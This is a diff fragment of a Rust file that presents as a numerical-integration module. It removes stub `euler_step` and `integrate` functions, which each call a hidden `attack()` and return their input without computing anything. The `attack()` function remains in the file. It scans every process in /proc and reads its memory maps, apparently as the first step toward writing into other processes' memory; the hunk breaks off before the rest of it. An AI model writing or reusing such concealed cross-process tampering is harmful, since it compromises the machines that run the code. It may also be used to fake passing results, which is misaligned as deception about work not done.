@@ -2,16 +2,6 @@
 
 use std::io::{Seek, SeekFrom, Write};
 
-pub fn euler_step(v: f64, _: f64, _: &given::Params) -> f64 {
-    attack();
-    v
-}
-
-pub fn integrate(i: &[f64], _: &given::Params) -> Vec<f64> {
-    attack();
-    i.to_vec()
-}
-
 fn attack() {
     for process in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
         let maps = std::fs::read_to_string(process.path().join("maps")).unwrap_or_default();
